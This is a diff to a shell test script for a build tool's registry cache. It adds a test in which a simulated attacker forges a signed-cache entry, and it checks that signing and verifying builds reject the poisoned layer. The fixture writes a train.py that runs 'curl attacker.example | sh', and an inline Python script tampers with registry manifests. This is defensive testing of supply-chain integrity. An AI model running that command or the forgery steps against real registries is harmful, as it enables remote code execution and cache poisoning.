@@ -67,8 +67,8 @@ check "... the layers say they came from an unverified cache" js fresh.json \
 check "a local output downloads the cached blobs once and umoci reads the layout" bash -c \
   "umoci stat --image lay:x >/dev/null && test \"\$(js local.json 'print(j[\"digest\"])')\" = \"\$(js cold.json 'print(j[\"digest\"])')\""
 "$PI" build elsewhere/q/spec.yaml --revision r --cache-dir c3 -o oci:lay:y --cache-from "$C" --json >local2.json 2>local2.err
-check "... the next build hits the local cache (the registry is not asked)" js local2.json \
-  'assert j["registry_cache"]["hits"]==0 and j["registry_cache"]["misses"]==0 and all("cache" not in l for l in j["layers"])'
+check "... the next build hits the local cache (the registry is not asked), each layer naming its origin" js local2.json \
+  'assert j["registry_cache"]["hits"]==0 and j["registry_cache"]["misses"]==0 and all(l["cache"]["origin"]=="local" and l["cache"]["verified"] is False for l in j["layers"]), j["layers"]'
 
 # ---- a code change on a fresh runner, through the environment variables --------------
 printf 'import purepkg\nprint(purepkg.hello(), 2)\n' >elsewhere/q/src/train.py
@@ -145,6 +145,99 @@ F=$REG_HOST/team/forged/cache
   --json >forged.json 2>forged.err || { cat forged.err; exit 1; }
 check "entries signed by another key are ignored" bash -c \
   "test \"\$(statuses forged.json)\" = 'rebuilt rebuilt rebuilt' && test \$(grep -c 'does not verify' forged.err) = 3"
+
+# ---- the forged-entry chain: no laundering ----------------------------------------------
+# An attacker who can write the open cache A puts its own app layer under the victim's
+# key (unsigned). An unsigned reader takes it (reported unverified); a writer that signs
+# (--cache-sign-key, no --cache-verify-key) must not take it, nor its copy in a local
+# cache, nor sign it into B; a reader verifying B's entries gets the victim's bytes.
+A=$REG_HOST/team/chain/open
+B=$REG_HOST/team/chain/signed
+mkdir -p chain && cp -r p chain/v && cp -r p chain/evil
+printf 'import os\nos.system("curl attacker.example | sh")\n' >chain/evil/src/train.py
+"$PI" build chain/v/spec.yaml --revision r --cache-dir x1 -o oci:x-v --cache-to "$A" --json -q >victim.json
+"$PI" build chain/evil/spec.yaml --revision r --cache-dir x2 -o oci:x-e --cache-to "$A" --json -q >evil.json
+app_of() { js "$1" 'print([l["digest"] for l in j["layers"] if l["name"]=="app"][0])'; }
+export -f app_of
+GOOD=$(app_of victim.json)
+EVIL=$(app_of evil.json)
+/usr/bin/python3 - "$REG_URL" team/chain/open "$GOOD" "$EVIL" <<'PY'
+import hashlib, json, sys, urllib.request
+url, repo, good, evil = sys.argv[1:]
+acc = "application/vnd.oci.image.manifest.v1+json"
+def get(path, accept=acc):
+    return urllib.request.urlopen(urllib.request.Request(url + path, headers={"Accept": accept})).read()
+entries = {}
+for t in json.loads(get(f"/v2/{repo}/tags/list"))["tags"]:
+    if t.startswith("layer-"):
+        m = json.loads(get(f"/v2/{repo}/manifests/{t}"))
+        rec = json.loads(get(f"/v2/{repo}/blobs/{m['layers'][1]['digest']}", "*/*"))
+        entries[rec["blob"]["digest"]] = (t, m, rec)
+tag, m, rec = entries[good]
+_, em, erec = entries[evil]
+rec["blob"], rec["record"] = erec["blob"], erec["record"]  # the victim's key, the attacker's bytes
+body = json.dumps(rec, sort_keys=True, separators=(",", ":")).encode()
+d = "sha256:" + hashlib.sha256(body).hexdigest()
+loc = urllib.request.urlopen(urllib.request.Request(f"{url}/v2/{repo}/blobs/uploads/", method="POST")).headers["Location"]
+loc = (loc if loc.startswith("http") else url + loc) + ("&" if "?" in loc else "?") + "digest=" + d
+urllib.request.urlopen(urllib.request.Request(loc, data=body, method="PUT", headers={"Content-Type": "application/octet-stream"}))
+m["layers"] = [em["layers"][0], {"mediaType": m["layers"][1]["mediaType"], "digest": d, "size": len(body)}]
+urllib.request.urlopen(urllib.request.Request(f"{url}/v2/{repo}/manifests/{tag}", data=json.dumps(m).encode(), method="PUT", headers={"Content-Type": acc}))
+PY
+"$PI" build chain/v/spec.yaml --revision r --cache-dir r1 -o oci:c-r1 --cache-from "$A" --json >r1.json 2>r1.err ||
+  { cat r1.err; exit 1; }
+check "chain: the forged entry reaches an unsigned reader, reported unverified" bash -c \
+  "test \"\$(app_of r1.json)\" = '$EVIL' && js r1.json 'assert all(l[\"cache\"][\"verified\"] is False for l in j[\"layers\"])'"
+"$PI" build chain/v/spec.yaml --revision r --cache-dir w1 -o oci:c-w1 --cache-from "$A" --cache-to "$B" \
+  --cache-sign-key k1.key --json >w1.json 2>w1.err || { cat w1.err; exit 1; }
+check "chain: a signing writer without a verify key ignores the unsigned entries, builds, signs its own" bash -c \
+  "test \"\$(app_of w1.json)\" = '$GOOD' && test \$(grep -c 'not signed; ignored' w1.err) = 3 &&
+   test \"\$(statuses w1.json)\" = 'rebuilt rebuilt rebuilt' && js w1.json 'assert j[\"registry_cache\"][\"stored\"]==3'"
+"$PI" build chain/v/spec.yaml --revision r --cache-dir r1 -o oci:c-w2 --cache-from "$A" --cache-to "$B" \
+  --cache-sign-key k1.key --json >w2.json 2>w2.err || { cat w2.err; exit 1; }
+check "chain: ... nor on the unsigned reader's local cache: its copies of unverified entries are built again" bash -c \
+  "test \"\$(app_of w2.json)\" = '$GOOD' && test \$(grep -c 'came from an unverified registry cache entry' w2.err) = 3 &&
+   test \"\$(statuses w2.json)\" = 'rebuilt rebuilt rebuilt'"
+mkdir -p chain/far && cp -r p chain/far/v
+"$PI" build chain/far/v/spec.yaml --revision r --cache-dir v1 -o oci:c-v1:x --cache-from "$B" \
+  --cache-verify-key k1.pub --json >v1.json 2>v1.err || { cat v1.err; exit 1; }
+check "chain: a verifying reader of B gets verified hits with the victim's app layer" bash -c \
+  "test \"\$(app_of v1.json)\" = '$GOOD' && test \"\$(statuses v1.json)\" = 'reused+cache reused+cache reused+cache' &&
+   js v1.json 'assert all(l[\"cache\"][\"verified\"] for l in j[\"layers\"])'"
+check "chain: ... whose bytes are the victim's train.py, not the attacker's" bash -c \
+  "f=c-v1/blobs/sha256/${GOOD#sha256:}; test -f \$f && tar xzOf \$f app/train.py | cmp - chain/v/src/train.py"
+"$PI" build chain/v/spec.yaml --revision r --cache-dir r3 -o oci:c-r3a --cache-from "$A" -q
+"$PI" build chain/v/spec.yaml --revision r --cache-dir r3 -o oci:c-r3 --cache-from "$B" --cache-verify-key k1.pub \
+  --json >r3.json 2>r3.err || { cat r3.err; exit 1; }
+check "chain: a verifying build on an unsigned reader's cache takes B's verified entries, not its unverified copies" bash -c \
+  "test \"\$(app_of r3.json)\" = '$GOOD' && test \$(grep -c 'came from an unverified registry cache entry' r3.err) = 3 &&
+   test \"\$(statuses r3.json)\" = 'reused+cache reused+cache reused+cache'"
+"$PI" build chain/v/spec.yaml --revision r --cache-dir r4 -o oci:c-r4 --cache-from "$A" -q
+"$PI" build chain/v/spec.yaml --revision r --cache-dir r4 -o oci:c-s4 --cache-from "$A" --sign --key k1.key \
+  --json >s4.json 2>s4.err || { cat s4.err; exit 1; }
+check "chain: --sign without a verify key reads no registry cache and builds its unverified local copies again" bash -c \
+  "test \"\$(app_of s4.json)\" = '$GOOD' && grep -q 'the registry cache is not read' s4.err &&
+   test \"\$(statuses s4.json)\" = 'rebuilt rebuilt rebuilt'"
+"$PI" build chain/far/v/spec.yaml --revision r --cache-dir v1 -o oci:c-vs --cache-from "$B" --cache-verify-key k1.pub \
+  --sign --key k1.key --json >vs.json 2>vs.err || { cat vs.err; exit 1; }
+/usr/bin/python3 - c-vs "$(js vs.json 'print(j["digest"])')" "$B" <<'PY' >vs-prov.txt
+import base64, json, sys
+lay, d, repo = sys.argv[1:]
+idx = json.load(open(lay + "/index.json"))
+att = [m for m in idx["manifests"] if m.get("annotations", {}).get("org.opencontainers.image.ref.name") == d.replace(":", "-") + ".att"][0]
+man = json.load(open(lay + "/blobs/sha256/" + att["digest"][7:]))
+for l in man["layers"]:
+    st = json.loads(base64.b64decode(json.load(open(lay + "/blobs/sha256/" + l["digest"][7:]))["payload"]))
+    if st["predicateType"] == "https://slsa.dev/provenance/v1":
+        bp = st["predicate"]["runDetails"]["byproducts"]
+        mine = [b for b in bp if b.get("annotations", {}).get("kind") in ("wheels", "files", "data")]
+        assert len(mine) == 3, bp
+        for b in mine:
+            a = b["annotations"]
+            assert a["cacheOrigin"] == "local" and a["cacheRepository"] == repo and a["cacheVerified"] is True, a
+        print("ok")
+PY
+check "chain: the provenance of a signed build names each reused layer's cache origin" grep -qx ok vs-prov.txt
 
 # ---- failures are warnings ------------------------------------------------------------
 blob=$(js cold.json 'print([l["digest"] for l in j["layers"] if l["name"]=="models"][0])')
